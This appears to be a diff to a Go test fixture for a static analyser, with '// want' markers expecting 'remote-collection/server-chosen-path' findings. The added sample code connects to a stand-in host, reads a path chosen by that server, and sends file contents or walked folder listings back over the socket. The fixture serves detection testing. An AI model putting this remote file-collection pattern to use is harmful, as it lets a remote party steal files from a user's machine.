@@ -118,6 +118,50 @@ func configured(allowed string) bool {
 	return strings.EqualFold(h, allowed) // ok: not a constant
 }
 
+// Fetcher is how a request reaches the code that serves it.
+type Fetcher interface {
+	Fetch(path string) []byte
+}
+
+type diskFetcher struct{}
+
+func (diskFetcher) Fetch(path string) []byte { // want Fetch:"summary"
+	data, _ := os.ReadFile(path) // want "remote-collection/server-chosen-path"
+	return data
+}
+
+// dispatch asks the fetcher for a path from the network, through the interface, and
+// sends back what it returns from a goroutine fed by a channel.
+func (g *Grabber) dispatch(f Fetcher) {
+	line, _ := bufio.NewReader(g.conn).ReadString('\n')
+	out := make(chan []byte, 1)
+	go func() {
+		for b := range out {
+			g.conn.Write(b)
+		}
+	}()
+	out <- f.Fetch(strings.TrimSpace(line))
+}
+
+// walkClosure walks a folder the server named with a closure; the paths go back through
+// a method value.
+func (g *Grabber) walkClosure() {
+	line, _ := bufio.NewReader(g.conn).ReadString('\n')
+	send := g.send
+	filepath.Walk(strings.TrimSpace(line), func(p string, info os.FileInfo, err error) error { // want "remote-collection/server-chosen-path"
+		send(p)
+		return nil
+	})
+}
+
+// localWalk walks a fixed folder: nothing the server chose.
+func (g *Grabber) localWalk() {
+	filepath.Walk("/var/log", func(p string, info os.FileInfo, err error) error { // ok: a fixed root
+		g.send(p)
+		return nil
+	})
+}
+
 func main() {
 	conn, _ := net.Dial("tcp", "198.51.100.77:8080")
 	g := &Grabber{conn: conn}
@@ -131,4 +175,7 @@ func main() {
 	a.init()
 	a.stage()
 	configured(os.Getenv("HOST"))
+	g.dispatch(diskFetcher{})
+	g.walkClosure()
+	g.localWalk()
 }
